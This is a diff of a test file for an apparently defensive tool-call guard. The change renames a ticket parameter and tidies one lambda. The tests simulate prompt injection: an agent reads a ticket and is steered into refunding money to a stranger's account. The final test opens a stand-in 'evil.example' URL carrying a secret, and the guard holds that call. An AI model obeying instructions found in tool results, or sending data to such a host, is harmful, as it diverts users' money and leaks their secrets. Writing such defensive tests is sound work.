@@ -19,9 +19,9 @@ WORDS = "Refund 20 to account DE89370400440532013000 for ticket T-7."
 
 
 def shop(paid, **fields):
-    def read_ticket(id: str) -> dict:
+    def read_ticket(ticket: str) -> dict:
         """Return a ticket."""
-        return TICKET | {"id": id}
+        return TICKET | {"id": ticket}
 
     def refund(account: str, amount: float) -> dict:
         """Pay money back."""
@@ -40,7 +40,7 @@ def steered(run, *, words=WORDS):
     """The model reads the ticket and obeys it."""
     if words:
         run.user(words)
-    assert call(run, "read_ticket", "r1", id="T-7").ok
+    assert call(run, "read_ticket", "r1", ticket="T-7").ok
     return call(run, "refund", account=STRANGER, amount=900)
 
 
@@ -95,7 +95,7 @@ def test_what_the_user_asked_for_runs_without_a_question(mode):
     paid = []
     with pokayoke.Guard(shop(paid, effect="destructive"), config={"untrusted": {"mode": mode}}).run() as run:
         run.user(WORDS)
-        assert call(run, "read_ticket", "r1", id="T-7").ok
+        assert call(run, "read_ticket", "r1", ticket="T-7").ok
         assert call(run, "refund", account="DE89370400440532013000", amount=20).ok
         (found,) = untrusted_events(run)
         assert (found["decision"], "reasons" in found) == ("allow", False)
@@ -131,7 +131,7 @@ def test_secrets_stay_out_of_a_question():
     """A marked argument is not spelled out where the reason quotes it."""
     asked = []
     tools = shop([], redact=("account",))
-    guard = pokayoke.Guard(tools, config={"untrusted": {"mode": "ask"}}, on_ask=lambda one: asked.append(one))
+    guard = pokayoke.Guard(tools, config={"untrusted": {"mode": "ask"}}, on_ask=asked.append)
     with guard.run() as run:
         steered(run)
     assert asked[0].why
@@ -145,7 +145,7 @@ def test_a_check_says_what_would_be_decided_and_where_values_come_from():
         with pokayoke.Guard(shop(paid), config={"untrusted": {"mode": mode}}).run() as run:
             run.can_ask = True
             run.user(WORDS)
-            call(run, "read_ticket", "r1", id="T-7")
+            call(run, "read_ticket", "r1", ticket="T-7")
             verdict = run.check(pokayoke.ToolCall("c", "refund", json.dumps({"account": STRANGER, "amount": 20})))
             assert verdict.decision == decision
             assert {row["argument"]: row["tier"] for row in verdict.sources} == {"account": "none", "amount": "prompt"}
@@ -184,7 +184,7 @@ def test_a_restart_does_not_forget_that_the_run_has_read(tmp_path):
     config = {"untrusted": {"mode": "refuse"}}
     with pokayoke.Guard(shop(paid), config=config, store=store) as guard, guard.run("r") as run:
         run.user(WORDS)
-        assert call(run, "read_ticket", "r1", id="T-7").ok
+        assert call(run, "read_ticket", "r1", ticket="T-7").ok
     with pokayoke.Guard(shop(paid), config=config, store=store) as guard, guard.run("r") as run:
         run.user(WORDS)
         assert call(run, "refund", account=STRANGER, amount=900).status == "refused"
@@ -242,7 +242,7 @@ def test_reading_a_page_that_a_ticket_names_asks():
     with pokayoke.Guard(tools, config={"untrusted": {"mode": "ask"}}).run() as run:
         run.can_ask = True
         run.user("What does https://ours.example/help say about T-7?")
-        assert call(run, "read_ticket", "r1", id="T-7").ok
+        assert call(run, "read_ticket", "r1", ticket="T-7").ok
         assert call(run, "open_page", "c1", url="https://ours.example/help").ok
         assert call(run, "open_page", "c2", url="https://evil.example/?q=secret").status == "pending"
 
